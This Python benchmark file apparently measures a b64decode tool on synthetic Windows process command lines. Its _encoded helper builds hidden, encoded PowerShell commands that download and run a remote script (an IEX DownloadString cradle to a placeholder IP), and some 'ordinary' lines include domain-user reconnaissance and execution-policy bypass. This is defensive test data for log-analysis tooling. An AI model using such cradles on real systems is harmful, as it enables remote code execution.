"""b64decode on encoded PowerShell lines and on ordinary command lines, selected fields."""

from __future__ import annotations

import base64
import random
from typing import Iterator

from tests.bench import data
from tests.bench.driver import COMMANDS, REPOSITORY, Contender, compare
from tests.bench.report import Table

ECHO = "raw echo"
FIELD = "CommandLine"
CONTENDERS = {
    ECHO: Contender(COMMANDS / "raw_echo.py"),
    "b64decode": Contender(REPOSITORY / "bin" / "b64decode.py", (FIELD,)),
}
EVENTS = 20_000
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_ORDINARY = (
    r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule -t {number}",
    r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --id={number}',
    r'C:\Windows\system32\cmd.exe /c "net user /domain" > C:\Temp\{number}.txt',
    r"rundll32.exe shell32.dll,Control_RunDLL desk.cpl,{number}",
    r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding {number}",
    r"taskhostw.exe Install {{6bdd1fc6-810f-11d0-bec7-{number:012x}}}",
    r'powershell.exe -ExecutionPolicy Bypass -File "C:\ProgramData\inventory{number}.ps1"',
    r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v Updater{number}",
)


def tables(rounds: int) -> Iterator[Table]:
    """Measure 20,000 events of each kind in one chunk."""
    draw = random.Random(7)
    cases = {
        "encoded, all distinct": [_encoded(number) for number in range(EVENTS)],
        "no payload, all distinct": [_ordinary(draw, number) for number in range(EVENTS)],
        "no payload, 400 distinct": [_ordinary(draw, draw.randrange(50)) for _ in range(EVENTS)],
    }
    for title, lines in cases.items():
        size = sum(map(len, lines)) // EVENTS
        figures = compare(CONTENDERS, [data.column(FIELD, lines)], EVENTS, rounds)
        yield Table(f"{title}, {size} bytes", figures, (ECHO,))


def _encoded(number: int) -> str:
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/{number}.ps1')"
    payload = base64.b64encode(script.encode("utf-16-le")).decode()
    return f'"{_POWERSHELL}" -nop -w hidden -enc {payload}'


def _ordinary(draw: random.Random, number: int) -> str:
    return draw.choice(_ORDINARY).format(number=number)
